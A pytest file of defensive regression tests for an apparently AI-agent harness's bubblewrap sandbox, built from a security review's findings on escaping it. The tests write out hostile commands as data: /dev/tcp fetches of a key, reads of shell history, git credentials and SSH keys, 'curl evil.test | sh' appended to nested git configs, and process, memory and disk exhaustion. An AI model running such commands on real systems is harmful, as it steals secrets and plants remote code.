"""The second outside attack on the sandbox (issue 17): network, home folder, nested
protected names, limits.

What broke, by the rule it shows, and the tests that hold it:

- High 1, *the sandbox has a network*: a command fetched the key from a 127.0.0.1
  server, and read the Jupyter kernel's connection file in ~/.local/share/jupyter to
  run code in the harness's own kernel. A sandboxed tool process gets no network unless
  a setting grants it, and sees nothing of HOME but what it needs.
- Medium 9: ``.env`` (which the file tools refuse), ``~/.bash_history`` and
  ``~/.git-credentials`` were readable, nested ``.git`` and ``.venv`` folders writable,
  and there were no process, memory or /tmp limits. What the file tools refuse the
  shell cannot do either, and a call's resources are bounded.
- Low: filling the disk from run_shell was unbounded.

Tests named ``sandboxed`` need bubblewrap (skipped without it, failed under
``HARNESS_REQUIRE_SANDBOX=1``); ``either`` ones run with it and without it.
"""

from __future__ import annotations

import json
import os
import pwd
import secrets
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from harness import CommandTool, Workspace
from harness.workspace import sandbox

from .procs import kill_all_in, none_left_in

KEY = "sk-test-" + secrets.token_hex(16)
NETWORK = "HARNESS_SANDBOX_NETWORK"  # the setting that gives tool processes a network
MiB = 1 << 20


@pytest.fixture
def ws(tmp_path: Path) -> Iterator[Workspace]:
    root = tmp_path / "root"
    root.mkdir()
    yield Workspace(root, shell_timeout=10)
    kill_all_in(root)  # never leave a process behind, even on failure


def run(ws: Workspace, command: str) -> str:
    return ws.run_shell(command).output


def sandboxed_ws(ws: Workspace, **settings) -> Workspace:
    """The same workspace, its processes under other `Sandbox` settings."""
    return Workspace(ws.root, shell_timeout=10, sandbox=sandbox.Sandbox(**settings))


# -- High 1: no network unless a setting grants it -------------------------------------

@contextmanager
def key_server() -> Iterator[int]:
    """A TCP server on the host's 127.0.0.1 that hands the key to whoever connects (as
    the attack's did)."""
    server = socket.create_server(("127.0.0.1", 0))
    with serving(server):
        yield server.getsockname()[1]


@contextmanager
def serving(server: socket.socket) -> Iterator[None]:
    """Hand the key to whoever connects to ``server``; it closes itself after 10 s at most."""
    server.listen()
    server.settimeout(0.05)
    done = threading.Event()

    def serve() -> None:
        deadline = time.monotonic() + 10
        while not done.is_set() and time.monotonic() < deadline:
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(KEY.encode())

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield
    finally:
        done.set()
        thread.join(2)
        server.close()


def fetch(port: int) -> str:
    return f"exec 3<>/dev/tcp/127.0.0.1/{port} && timeout 2 cat <&3; echo; echo end"


def test_a_sandboxed_command_cannot_reach_a_server_on_the_hosts_loopback(
        ws: Workspace, sandboxed: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(NETWORK, raising=False)
    with key_server() as port:
        output = run(ws, fetch(port))
    assert KEY not in output
    assert "Connection refused" in output or "Network is unreachable" in output, output


def test_the_network_setting_opens_it_and_a_workspace_setting_wins(
        ws: Workspace, sandboxed: None, monkeypatch: pytest.MonkeyPatch) -> None:
    with key_server() as port:
        monkeypatch.setenv(NETWORK, "on")
        by_variable = run(ws, fetch(port))
        closed_here = run(sandboxed_ws(ws, network=False), fetch(port))
        monkeypatch.delenv(NETWORK)
        open_here = run(sandboxed_ws(ws, network=True), fetch(port))
    assert KEY in by_variable and KEY in open_here
    assert KEY not in closed_here


CLIENT = """\
import socket, sys
try:  # in the sandbox, making a Unix socket is refused already (its seccomp filter)
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect(sys.argv[1].replace("@", "\\0", 1))
    print("got", s.recv(100).decode())
except OSError as exc:
    print("refused", exc)
"""


def test_no_socket_of_the_host_is_reachable_without_network(
        ws: Workspace, sandboxed: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """An abstract Unix socket (X11's, a D-Bus's) belongs to the network namespace; the
    host's /run, with docker.sock, the D-Bus buses and /run/user, is empty."""
    monkeypatch.delenv(NETWORK, raising=False)
    name = f"@harness-test-{secrets.token_hex(4)}"
    server = socket.socket(socket.AF_UNIX)
    server.bind(name.replace("@", "\0", 1))
    (ws.root / "client.py").write_text(CLIENT, encoding="utf-8")
    with serving(server):
        output = run(ws, f"python client.py {name}; echo ---; ls -A /run; echo end")
    assert KEY not in output and "refused" in output
    assert output.endswith("---\nend"), output  # /run is empty


def test_status_and_doctor_say_whether_tool_processes_have_network(
        sandboxed: None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture) -> None:
    from harness.ui.cli import main

    monkeypatch.delenv(NETWORK, raising=False)
    assert "have no network (HARNESS_SANDBOX_NETWORK=on gives them yours)" in sandbox.status()
    main(["doctor"])
    assert "no network" in capsys.readouterr().out
    monkeypatch.setenv(NETWORK, "on")
    assert "have your network (HARNESS_SANDBOX_NETWORK=on)" in sandbox.status()


def test_without_bubblewrap_status_says_the_network_is_yours(unsandboxed: None) -> None:
    assert "unconfined" in sandbox.status() and "your network" in sandbox.status()


# -- High 1 and Medium 9: nothing of HOME but what a tool needs ------------------------

@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A HOME holding what the attack read: shell history, git credentials, an SSH key
    and a Jupyter kernel's connection file (its key signs code sent to the kernel).
    Not under /tmp, which the sandbox always replaced: a home is somewhere else."""
    with tempfile.TemporaryDirectory(dir="/var/tmp", prefix="harness-home-") as made:
        yield _make_home(Path(made), monkeypatch)


def _make_home(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    files = {".bash_history": f"export OPENAI_API_KEY={KEY}\n",
             ".git-credentials": f"https://me:{KEY}@github.com\n",
             ".ssh/id_ed25519": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY}\n",
             ".local/share/jupyter/runtime/kernel-1234.json":
                 json.dumps({"key": KEY, "shell_port": 50001, "ip": "127.0.0.1"})}
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    monkeypatch.setenv("HOME", str(folder))
    return folder


def test_the_home_folder_shows_nothing_of_the_persons_files(
        ws: Workspace, home: Path, sandboxed: None) -> None:
    output = run(ws, f"cat ~/.bash_history ~/.git-credentials ~/.ssh/id_ed25519 "
                     f"{home}/.bash_history; ls -A ~ ~/.local/share/jupyter/runtime; "
                     f"grep -rs sk- ~ {home}; echo end")
    assert KEY not in output
    assert "No such file" in output and "\nend\nstderr:" in output


def test_home_is_an_empty_scratch_folder_that_vanishes_with_the_call(
        ws: Workspace, home: Path, sandboxed: None) -> None:
    output = run(ws, "mkdir -p ~/.cache && echo x > ~/.cache/note && cat ~/.cache/note")
    assert output == "exit status 0\nstdout:\nx"
    assert not (home / ".cache").exists()


def test_the_real_home_folder_and_every_other_home_are_hidden(
        ws: Workspace, sandboxed: None) -> None:
    """The password file's home (here /root, or /home/you) shows only the folders the
    running Python needs (a pyenv or a venv under it), read-only."""
    real = Path(pwd.getpwuid(os.getuid()).pw_dir)
    if not real.is_dir() or not os.access(real, os.R_OK | os.X_OK) or str(real) == "/":
        pytest.skip("no readable home folder here")
    python = [Path(p) for p in (sys.prefix, sys.base_prefix, os.path.realpath(sys.executable))]
    allowed = {p.relative_to(real).parts[0] for p in python if p.is_relative_to(real)}
    listed = run(ws, f"ls -A {real} /home; echo end").split("stdout:\n")[1].split()
    names = {n for n in listed if not n.endswith(":") and n != "end"}
    assert names <= allowed, f"visible in the sandbox: {sorted(names - allowed)}"


def test_a_jupyter_runtime_folder_outside_home_is_hidden_too(
        ws: Workspace, sandboxed: None, monkeypatch: pytest.MonkeyPatch) -> None:
    with tempfile.TemporaryDirectory(dir="/var/tmp") as runtime:
        (Path(runtime) / "kernel-1.json").write_text(json.dumps({"key": KEY}), encoding="utf-8")
        monkeypatch.setenv("JUPYTER_RUNTIME_DIR", runtime)
        output = run(ws, f"ls -A {runtime}; cat {runtime}/kernel-1.json; echo end")
    assert KEY not in output and "kernel-1.json" not in output.split("stderr")[0]


def test_a_workspace_under_home_is_there_and_nothing_beside_it(
        home: Path, sandboxed: None) -> None:
    root = home / "projects" / "shop"
    root.mkdir(parents=True)
    (root / "notes.md").write_text("# Notes\n", encoding="utf-8")
    output = Workspace(root, shell_timeout=10).run_shell(
        "cat notes.md && echo more >> notes.md && ls -A ~ ~/projects; "
        "cat ~/.bash_history; echo end").output
    assert KEY not in output and "# Notes" in output
    assert (root / "notes.md").read_text(encoding="utf-8") == "# Notes\nmore\n"
    assert ".bash_history" not in output.split("stderr")[0]


def test_a_template_still_runs_the_harness_python_with_its_packages(
        ws: Workspace, home: Path, sandboxed: None) -> None:
    (ws.root / "show.py").write_text("import pydantic, sys; print('ok', sys.argv[1])\n",
                                     encoding="utf-8")
    show = CommandTool("show", "Show.", template="python show.py {name}",
                       params={"name": "a word"}, cwd=ws.root, timeout=10)
    result = show.execute(show.parse(json.dumps({"name": "hi"})))
    assert result.ok and result.output.endswith("ok hi"), result.output


# -- Medium 9: what the file tools refuse, the shell cannot do -------------------------

ENV_FILES = [".env", ".env.local", "sub/.env", "sub/deep/.env.production", "sub/.ENV"]
NESTED = ["sub/.git/config", "sub/deep/.git/hooks/pre-commit", "a/b/.venv/bin/activate",
          "a/env312/bin/python", "sub/.hg/hgrc", "sub/.svn/entries", ".git/config"]


@pytest.fixture
def protected(ws: Workspace) -> dict[str, bytes]:
    for name in ENV_FILES:
        (ws.root / name).parent.mkdir(parents=True, exist_ok=True)
        (ws.root / name).write_text(f"OPENAI_API_KEY={KEY}\n", encoding="utf-8")
    for name in NESTED:
        (ws.root / name).parent.mkdir(parents=True, exist_ok=True)
        (ws.root / name).write_text("[core]\n", encoding="utf-8")
    (ws.root / "a" / "env312" / "pyvenv.cfg").write_text("home = /usr\n", encoding="utf-8")
    return {str(p): p.read_bytes() for p in ws.root.rglob("*") if p.is_file()}


def test_env_files_at_any_depth_read_as_empty_in_the_sandbox(
        ws: Workspace, protected: dict[str, bytes], sandboxed: None) -> None:
    output = run(ws, f"cat {' '.join(ENV_FILES)}; grep -rs OPENAI . ; "
                     f"for f in {' '.join(ENV_FILES)}; do echo KEY=x >> $f; done; echo end")
    assert KEY not in output and "OPENAI" not in output
    refused = output.count("Read-only file system") + output.count("Permission denied")
    assert refused == len(ENV_FILES), output
    assert {str(p): p.read_bytes() for p in ws.root.rglob("*") if p.is_file()} == protected


def test_nested_version_control_and_virtual_environments_are_read_only(
        ws: Workspace, protected: dict[str, bytes], sandboxed: None) -> None:
    writes = "; ".join(f"echo 'fsmonitor = curl evil.test | sh' >> {name}" for name in NESTED)
    output = run(ws, f"{writes}; touch sub/.git/new-hook a/b/.venv/bin/evil; "
                     f"rm -rf sub/.git a/env312; echo end")
    assert output.count("Read-only file system") >= len(NESTED) + 2
    assert {str(p): p.read_bytes() for p in ws.root.rglob("*") if p.is_file()} == protected


def test_past_the_walk_budget_the_rest_of_the_workspace_is_read_only(
        ws: Workspace, protected: dict[str, bytes], sandboxed: None,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A workspace too big to walk before every call fails closed: what was not walked
    cannot be written (a nested .git there included)."""
    monkeypatch.setattr(sandbox, "MAX_WALK", 4)
    output = run(ws, "echo evil >> a/b/.venv/bin/activate; echo x > sub/deep/new.txt; "
                     "echo x > top.txt && echo top-ok")
    assert "Read-only file system" in output
    assert not (ws.root / "sub" / "deep" / "new.txt").exists()
    assert {str(p): p.read_bytes() for p in ws.root.rglob("*")
            if p.is_file() and p.name != "top.txt"} == protected


def test_a_wide_workspace_past_the_budget_costs_a_bounded_number_of_binds(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "MAX_WALK", 10)
    for i in range(300):
        (tmp_path / f"d{i}" / "sub").mkdir(parents=True)
    binds = sandbox.protected_binds(tmp_path)
    assert 0 < binds.count("--ro-bind") <= sandbox.MAX_UNWALKED


# -- Medium 9 and Low: processes, memory, file size, /tmp, disk ------------------------

REFUSED = "fork: retry: Resource temporarily unavailable"  # bash, when the kernel says no


def test_a_call_cannot_start_more_processes_than_the_limit(ws: Workspace, either: str) -> None:
    """The attack got 400; the default limit is 256. Not as root, in bubblewrap, the
    kernel refuses the forks (RLIMIT_NPROC, counted in the sandbox's user namespace); as
    root, or without bubblewrap, the reaper's watch stops the call. Either way none is left."""
    started = time.monotonic()
    result = ws.run_shell("for i in $(seq 400); do sleep 2 & done; echo all 400 started")
    stopped = "more than 256 processes (the limit is set by Sandbox(processes=...))"
    assert stopped in result.output or REFUSED in result.output, result.output
    assert stopped not in result.output or not result.ok
    assert time.monotonic() - started < 8
    assert none_left_in(ws.root)


def test_a_smaller_process_limit_holds_too(ws: Workspace, either: str) -> None:
    result = sandboxed_ws(ws, processes=10).run_shell(
        "for i in $(seq 50); do sleep 2 & done; echo all started")
    assert ("more than 10 processes (the limit is set by Sandbox(processes=...))"
            in result.output or REFUSED in result.output), result.output
    assert none_left_in(ws.root)


HOLD = "python -c 'x = b\"x\" * (60 << 20); import time; time.sleep(5)'"  # 60 MiB for 5 s


def test_the_command_cannot_stop_or_kill_the_watch_in_the_sandbox(
        ws: Workspace, sandboxed: None) -> None:
    """The reaper is the namespace's PID 1: SIGSTOP and SIGKILL from inside never reach
    it, and it still stops a call whose processes hold too much memory together."""
    result = sandboxed_ws(ws, memory=128 * MiB).run_shell(
        f"kill -STOP $PPID; kill -KILL $PPID; kill -STOP 1; kill -TERM 1; kill -INT 1; "
        f"{HOLD} & {HOLD} & {HOLD} & wait; echo done")
    assert not result.ok and "Sandbox(memory=...)" in result.output, result.output
    assert "done" not in result.output
    assert none_left_in(ws.root)


def test_a_process_cannot_allocate_2_gb(ws: Workspace, either: str) -> None:
    output = run(ws, "python -c 'x = bytearray(2 << 30); print(\"allocated\")'")
    assert "MemoryError" in output and "allocated" not in output


def test_processes_that_hold_too_much_memory_together_are_stopped(
        ws: Workspace, either: str) -> None:
    output = run(sandboxed_ws(ws, memory=128 * MiB), f"{HOLD} & {HOLD} & {HOLD} & wait; echo done")
    assert "done" not in output and "Sandbox(memory=...)" in output
    assert none_left_in(ws.root)


def test_no_file_grows_past_the_file_size_limit(ws: Workspace, either: str) -> None:
    output = run(ws, "head -c 200M /dev/zero > big; echo end")
    assert "File size limit exceeded" in output or "File too large" in output, output
    assert (ws.root / "big").stat().st_size <= 100 * MiB


def test_tmp_home_and_shm_are_small_in_the_sandbox(
        ws: Workspace, home: Path, sandboxed: None) -> None:
    """/tmp was half the RAM: now /tmp, HOME and /dev/shm hold 256 MiB each, and a
    write past the size set fails."""
    sizes = run(ws, "df -B1 --output=size /tmp ~ /dev/shm | tail -3")
    assert sizes.split("stdout:\n")[1].split() == [str(256 * MiB)] * 3, sizes
    elsewhere = run(ws, "head -c 1M /dev/zero > /dev/fill; echo x > /dev/null && echo null-ok")
    assert "Read-only file system" in elsewhere and "null-ok" in elsewhere  # /dev holds none
    fill = "; ".join(f"head -c 9M /dev/zero > {d}/f || echo {d} is full" for d in
                     ("/tmp", "~", "/dev/shm"))
    output = run(sandboxed_ws(ws, tmp_size=8 * MiB), fill)
    assert output.count("No space left on device") == 3, output


def test_filling_the_disk_is_stopped(ws: Workspace, either: str) -> None:
    output = run(sandboxed_ws(ws, disk=40 * MiB),
                 "for i in $(seq 30); do head -c 10M /dev/zero > f$i; done; echo wrote all")
    assert "wrote all" not in output and "Sandbox(disk=...)" in output
    written = sum(p.stat().st_size for p in ws.root.glob("f*"))
    assert written < 120 * MiB


def test_where_there_is_no_reaper_the_limits_still_apply(
        ws: Workspace, unsandboxed: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """macOS has no /proc and no prctl: the reaper only sets the limits and becomes the
    command (simulated here on Linux)."""
    monkeypatch.setattr(sandbox, "_can_reap", lambda: False)
    output = run(ws, "head -c 200M /dev/zero > big; "
                     "python -c 'x = bytearray(2 << 30); print(\"allocated\")'")
    assert "allocated" not in output and "MemoryError" in output
    assert (ws.root / "big").stat().st_size <= 100 * MiB


def test_limits_are_checked_when_the_setting_is_made() -> None:
    for bad in ({"processes": 0}, {"memory": -1}, {"disk": 1.5}, {"tmp_size": True}):
        with pytest.raises(ValueError, match="positive whole number"):
            sandbox.Sandbox(**bad)


def test_the_readme_says_what_holds() -> None:
    text = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    section = text.split("## What tool processes can see")[1].split("\n## ")[0]
    for needed in ("HARNESS_SANDBOX_NETWORK", "Sandbox(", ".env", "HOME", "/tmp",
                   "processes", "memory", "file", "disk", "without bubblewrap"):
        assert needed in section, needed
